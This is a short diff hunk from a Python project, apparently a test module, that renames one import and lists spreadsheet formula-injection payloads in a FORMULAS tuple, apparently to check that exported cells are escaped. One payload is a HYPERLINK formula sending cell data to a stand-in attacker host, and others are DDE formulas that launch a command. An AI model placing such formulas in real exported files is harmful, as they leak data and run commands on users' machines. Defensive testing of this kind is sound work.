@@ -25,7 +25,7 @@ from fer_repro.inference.faces_in import read_boxes
 from fer_repro.inference.journal import spreadsheet_cell, write_rows
 from fer_repro.inference.spec import read_spec
 from fer_repro.pipeline.record import keep_record
-from fer_repro.report.story import make_safe, read_story
+from fer_repro.report.story_html import make_safe, read_story
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
